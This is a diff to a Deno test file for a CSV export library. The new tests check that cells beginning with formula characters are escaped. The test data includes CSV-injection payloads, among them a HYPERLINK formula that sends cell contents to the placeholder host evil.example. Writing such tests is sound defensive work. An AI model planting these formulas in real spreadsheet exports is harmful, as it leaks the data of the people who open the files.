@@ -2,7 +2,8 @@ import { assertEquals } from "@std/assert";
 import { parse } from "@std/csv";
 import { dayBookColumns } from "../../lib/day_book/columns.ts";
 import { checkAmount, checkFees } from "../../lib/day_book/row_checks.ts";
-import { csvRecord, rowEncoder } from "../../lib/day_book/row_file.ts";
+import { csvCell, csvRecord, plainText } from "../../lib/csv_text.ts";
+import { rowEncoder } from "../../lib/day_book/row_file.ts";
 import { Digest, DigestCounts } from "../../lib/day_book/row_keys.ts";
 import { FeeItem } from "../../lib/dictionaries/fee_item.ts";
 import { fillFields } from "../../lib/operations/fills.ts";
@@ -12,11 +13,67 @@ import { orderFields } from "../../lib/operations/orders.ts";
 
 Deno.test("csvRecord() follows RFC 4180, and a reader gets back what was written", () => {
   assertEquals(
-    csvRecord(["a", "b,c", 'd"e', "f\r\ng", "", undefined, false, "=1+1", " x "]),
-    'a,"b,c","d""e","f\r\ng",,,false,=1+1, x \r\n',
+    csvRecord(["a", "b,c", 'd"e', "f\r\ng", "", undefined, false, " x "]),
+    'a,"b,c","d""e","f\r\ng",,,false," x "\r\n',
   );
-  const odd = ["00700", "腾讯", "a,b", '"', "\n", "\r", "1e5", "'", "\t"];
-  assertEquals(parse(csvRecord(odd)), [odd]);
+  const odd = [
+    "00700",
+    "腾讯",
+    "a,b",
+    '"',
+    "\n",
+    "\r",
+    "1e5",
+    "'",
+    "\t",
+    "=1",
+    "'=1",
+    "''@",
+    "-1",
+    "＝1",
+    "'x",
+  ];
+  assertEquals(parse(csvRecord(odd, { exact: true })), [odd]);
+  assertEquals(parse(csvRecord(odd)).map((cells) => cells.map(plainText)), [odd]);
+});
+
+Deno.test("no text in a CSV file is a formula to a spreadsheet, and numbers stay numbers", () => {
+  const texts = [
+    "=1+1",
+    "+852 1234",
+    "-cmd",
+    "@SUM(A1)",
+    "\tx",
+    "\r=1",
+    "\n=1",
+    "＝1",
+    "＋1",
+    "－1",
+    "＠x",
+    "+",
+    "-",
+  ];
+  for (const text of [...texts, "=a,b", '=HYPERLINK("http://evil.example?x="&A1,"x")']) {
+    const [[cell = ""] = []] = parse(csvCell(text));
+    assertEquals(cell, `'${text}`);
+    assertEquals(parse(csvCell(text, { exact: true })), [[text]], "a program gets the text itself");
+  }
+  for (const plain of ["-1", "+1", "-12345.678900", "0", "1e5", "a=1", "00700.HK", "2025-08-15"]) {
+    assertEquals(csvCell(plain), plain);
+  }
+  const column = {
+    name: "remark",
+    meaning: "",
+    unit: "",
+    read: (row: Readonly<Record<string, unknown>>) => row.remark,
+  };
+  const context = { rowKey: "", market: "hk", currency: "HKD" } as const;
+  for (const text of ["=1+1", "-cmd", " =1", "'=1"]) {
+    const safe = rowEncoder([column])({ remark: text }, context);
+    assertEquals(safe, { csv: `${csvCell(text)}\r\n`, jsonl: `${JSON.stringify({ remark: text })}\n` });
+    const exact = rowEncoder([column], { exact: true })({ remark: text }, context);
+    assertEquals(exact.csv, csvRecord([text], { exact: true }));
+  }
 });
 
 Deno.test("rowEncoder() writes the same value to CSV and JSON Lines, absent ones to neither", () => {
